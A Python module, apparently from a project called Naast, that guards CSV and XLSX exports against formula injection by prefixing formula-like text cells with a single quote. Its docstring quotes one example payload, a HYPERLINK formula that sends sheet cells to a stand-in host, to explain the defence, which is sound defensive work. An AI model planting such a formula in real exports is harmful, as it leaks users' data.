"""Cells for CSV and XLSX exports that a spreadsheet program shows as text and never runs.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets: `=HYPERLINK("http://e.example/?"&A1,"Klik")` typed into a
signal would become a live link that sends the sheet's cells away. `inert` prefixes such a text
with a single quote, as the OWASP advice on CSV injection says; numbers stay numbers (a negative
count or growth is not text and is left alone). Every CSV and XLSX writer in Naast passes its
cells through here (reports, the audit log); the HSDS export is exact on purpose (see
`naast.socialmap.hsds.export`).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """`value` as a cell that cannot run: a text starting like a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def inert_row(values: Iterable) -> list:
    """Every cell of a row through `inert`."""
    return [inert(value) for value in values]
